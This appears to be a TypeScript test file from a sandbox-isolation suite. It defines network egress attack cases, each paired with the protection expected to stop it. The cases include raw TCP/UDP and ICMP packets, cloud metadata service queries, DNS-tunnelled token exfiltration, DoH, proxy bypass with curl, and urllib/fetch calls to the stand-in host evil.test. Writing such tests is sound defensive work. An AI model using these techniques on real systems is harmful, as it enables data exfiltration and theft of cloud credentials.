import { type AttackCase, allRuntimes } from "../attack-case.ts";
import { addresses } from "../fake-internet/zone.ts";
import { curl, networkAttack, python, shell } from "./network-attack.ts";

const noInterface = "no network interface but the loopback";

/** Tries each statement for itself; prints the name of the last error, or `done`. */
const attempts = (imports: string, statements: readonly string[]) =>
  python(`import errno, socket, ${imports}
result = "done"
for attempt in ${JSON.stringify(statements)}:
    try:
        exec(attempt)
    except OSError as error:
        result = errno.errorcode.get(error.errno, type(error).__name__)
print(result)`);

const dnsQuery = (token: string) =>
  `query = b"\\x12\\x34\\x01\\x00\\x00\\x01" + bytes(6) + bytes([${token.length}]) + b"${token}\\x04evil\\x04test\\x00\\x00\\x01\\x00\\x01"`;

/** Ways out that need no proxy: packets of every kind. */
export const directCases: readonly AttackCase[] = [
  networkAttack({
    name: "raw-tcp",
    attack: 25,
    title: "TCP to raw IPv4 and IPv6 addresses",
    protection: noInterface,
    program: ({ address, address6, port }) =>
      attempts("sys", [
        `socket.create_connection(("${address}", ${port}), 3)`,
        `socket.create_connection(("${address6}", ${port}), 3)`,
        `socket.create_connection(("${address}", 80), 3)`,
        `socket.create_connection(("${address}", 443), 3)`,
      ]),
  }),
  networkAttack({
    name: "raw-udp",
    attack: 25,
    title: "UDP datagrams that need no answer",
    protection: noInterface,
    program: ({ address, address6, port }) =>
      attempts("sys", [
        `socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"out", ("${address}", ${port}))`,
        `socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"out", ("${address6}", ${port}))`,
        `socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"out", ("255.255.255.255", ${port}))`,
        `socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"out", ("224.0.0.251", ${port}))`,
      ]),
  }),
  networkAttack({
    name: "metadata-by-address",
    attack: 26,
    title: "The cloud's metadata service, by its addresses",
    protection: "no interface; addresses of no rule are denied",
    runtimes: allRuntimes,
    program: ({ token, target }) =>
      curl(
        target,
        [addresses.metadata, "[fd00:ec2::254]", "100.100.100.200", "168.63.129.16"].map(
          (host) => `http://${host}/latest/meta-data/${token}`,
        ),
      ),
  }),
  networkAttack({
    name: "metadata-by-name",
    attack: 26,
    title: "The cloud's metadata service, by its name",
    protection: "only names of a rule are resolved",
    runtimes: allRuntimes,
    program: ({ token, target }) =>
      curl(target, [`http://metadata.google.internal/computeMetadata/${token}`]),
  }),
  networkAttack({
    name: "gateway",
    attack: 27,
    title: "Services on the gateway and on the host's own addresses",
    protection: noInterface,
    program: ({ port, lab, target }) =>
      attempts(
        "sys",
        [target.link?.gateway ?? lab.gateway, lab.address, "192.168.0.1", "172.17.0.1"].flatMap((host) =>
          [port, 80].map((at) => `socket.create_connection(("${host}", ${at}), 3)`),
        ),
      ),
  }),
  networkAttack({
    name: "bind-to-device",
    attack: 28,
    title: "Packets sent past the routes, by SO_BINDTODEVICE",
    protection: noInterface,
    program: ({ address, port }) =>
      python(`import errno, socket
result = "done"
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    for device in [name for _, name in socket.if_nameindex() if name != "lo"] or ["lo"]:
        try:
            one = socket.socket(socket.AF_INET, kind)
            one.settimeout(3)
            one.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode())
            one.connect(("${address}", ${port}))
            one.send(b"out")
        except OSError as error:
            result = errno.errorcode.get(error.errno, type(error).__name__)
print(result)`),
  }),
  networkAttack({
    name: "name-server-direct",
    attack: 30,
    title: "Data in a DNS query, sent to the attacker's name server over UDP and TCP",
    protection: noInterface,
    program: ({ token }) =>
      attempts("struct", [
        `${dnsQuery(token)}; one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); one.settimeout(3); one.sendto(query, ("${addresses.nameServer}", 53)); one.recv(512)`,
        `${dnsQuery(token)}; one = socket.create_connection(("${addresses.nameServer}", 53), 3); one.sendall(struct.pack("!H", len(query)) + query); one.recv(512)`,
      ]),
  }),
  networkAttack({
    name: "name-server-resolver",
    attack: 30,
    title: "Data in a name that the resolver is asked for",
    protection: "names are answered inside; no query leaves",
    program: ({ token }) =>
      python(`import socket
for name in ("secret-${token}.evil.test", "secret-${token}.allowed.test"):
    try:
        socket.getaddrinfo(name, 80)
        result = "answered inside"
    except OSError as error:
        result = "no such name"
print(result)`),
  }),
  networkAttack({
    name: "dns-over-https",
    attack: 31,
    title: "DNS over HTTPS and over TLS with an unlisted server",
    protection: "only hosts of a rule are reached",
    runtimes: allRuntimes,
    program: ({ token, target }) =>
      curl(target, [`https://dns.evil.test:853/${token}`, `https://dns.evil.test/dns-query?name=${token}`]),
  }),
  networkAttack({
    name: "icmp",
    attack: 32,
    title: "ICMP, in a datagram and in a raw socket",
    protection: "no interface, no capability, seccomp",
    protectionOn: { microsandbox: "no interface, no capability" },
    program: ({ address }) =>
      attempts("os", [
        `socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).sendto(b"\\x08\\x00\\xf7\\xff" + bytes(4), ("${address}", 0))`,
        `socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(b"\\x08\\x00\\xf7\\xff" + bytes(4), ("${address}", 0))`,
      ]),
  }),
  networkAttack({
    name: "no-proxy",
    attack: 33,
    title: "Programs that are told of no proxy, or pass it by",
    protection: "the gateway is the only way, asked or not",
    program: ({ token, target }) =>
      curl(target, [`http://evil.test/${token}`, `https://evil.test/${token}`], "--noproxy '*'"),
  }),
  networkAttack({
    name: "languages",
    attack: 33,
    title: "Python's and JavaScript's own ways to ask for a URL",
    protection: "the gateway is the only way, asked or not",
    runtimes: allRuntimes,
    program: ({ token, target }) =>
      shell(`python3 -c 'import urllib.request; urllib.request.urlopen("http://evil.test/${token}", timeout=10)' 2>/dev/null
${target.kind === "embedded" ? `js-exec -c 'fetch("http://evil.test/${token}")'` : ":"} >/dev/null 2>&1
echo refused`),
  }),
  networkAttack({
    name: "other-protocols",
    attack: 47,
    title: "HTTP/2 without TLS, a WebSocket, and QUIC's port, to an unlisted host",
    protection: "only hosts of a rule, and TCP alone",
    program: ({ token, address }) =>
      python(`import socket, subprocess
for options in (["--http2-prior-knowledge"], ["-H", "Connection: Upgrade", "-H", "Upgrade: websocket"]):
    subprocess.run(["curl", "-s", "-m", "5", *options, "http://evil.test/${token}"])
result = "done"
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"\\xc0" + bytes(1199), ("${address}", 443))
except OSError as error:
    result = error.strerror
print(result)`),
  }),
];
